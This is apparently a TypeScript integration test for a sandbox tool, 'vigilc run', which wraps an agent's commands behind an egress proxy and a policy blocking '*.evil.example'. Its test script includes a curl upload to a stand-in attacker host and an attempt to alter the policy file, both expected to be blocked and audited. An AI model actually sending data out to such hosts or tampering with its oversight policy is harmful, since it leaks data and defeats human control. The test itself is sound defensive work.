import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Database from "better-sqlite3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { vigilc } from "../../packages/cli/test/support/run-vigilc.js";

/**
 * `vigilc run -- COMMAND`: any agent in the same boundary as Claude Code, on the real sandbox
 * (Anthropic's sandbox runtime: bubblewrap, socat), with Vigil's egress proxy as its only network.
 */

const POLICY = `policy egress {
  /// Nothing goes to the attacker's domain.
  rule no_evil: always not (action in {net} and host ~ "*.evil.example")
    block "Send nothing to evil.example."
}
`;

let scratch = "";
let server: Server;
let port = 0;
const received: string[] = [];

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), "vigil-run-"));
  writeFileSync(join(scratch, "egress.vigil"), POLICY);
  server = createServer((request, response) => {
    received.push(request.url ?? "");
    response.end("reached\n");
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  port = (server.address() as { port: number }).port;
});

afterAll(async () => {
  await new Promise((done) => server.close(done));
  rmSync(scratch, { recursive: true, force: true });
});

describe("vigilc run: an agent that is not Claude Code, behind the same boundary", () => {
  it("decides each connection by the policy, keeps the policy and Vigil's state out of reach, and passes the command's exit code on", async () => {
    const script = [
      `curl -sS --noproxy '' http://127.0.0.1:${port}/allowed`,
      "curl -sS http://files.evil.example/upload",
      "echo tampered >> egress.vigil || echo policy-read-only",
      "ls .vigil | wc -l",
      "exit 3",
    ].join("; ");
    const ran = await vigilc(["run", "--policy", "egress.vigil", "--run", "agent-1", "--allow-loopback", String(port), "--", "bash", "-c", script], { cwd: scratch, timeoutMs: 120_000 });
    expect(ran.code).toBe(3);
    expect(ran.stdout).toContain("reached");
    expect(ran.stdout).toContain("egress.no_evil");
    expect(ran.stdout).toContain("Send nothing to evil.example.");
    expect(ran.stdout).toContain("policy-read-only");
    expect(ran.stdout).toMatch(/^0$/m);
    expect(readFileSync(join(scratch, "egress.vigil"), "utf8")).toBe(POLICY);
    expect(received).toEqual(["/allowed"]);
    const db = new Database(join(scratch, ".vigil", "audit.db"), { readonly: true });
    try {
      const events = db.prepare("SELECT action, args FROM events WHERE run_id = 'agent-1'").all() as { action: string; args: string }[];
      expect(events.map((e) => [e.action, (JSON.parse(e.args) as { host: string }).host])).toEqual([["net", "127.0.0.1"]]);
      const outcomes = (db.prepare("SELECT kind, outcome FROM audit WHERE run_id = 'agent-1'").all() as { kind: string; outcome: string }[]).map((r) => `${r.kind}:${r.outcome}`);
      expect(outcomes).toEqual(["decision:allow", "result:ok", "decision:block", "result:cancel", "finish:safe"]);
    } finally {
      db.close();
    }
  });

  it("refuses to run without a command, and with a policy that does not compile", async () => {
    expect((await vigilc(["run", "--policy", "egress.vigil", "--"], { cwd: scratch })).code).toBe(2);
    writeFileSync(join(scratch, "broken.vigil"), "policy p { rule r: nonsense }\n");
    const broken = await vigilc(["run", "--policy", "broken.vigil", "--", "true"], { cwd: scratch });
    expect(broken.code).toBe(2);
    expect(broken.stderr).toContain("broken.vigil");
  });
});
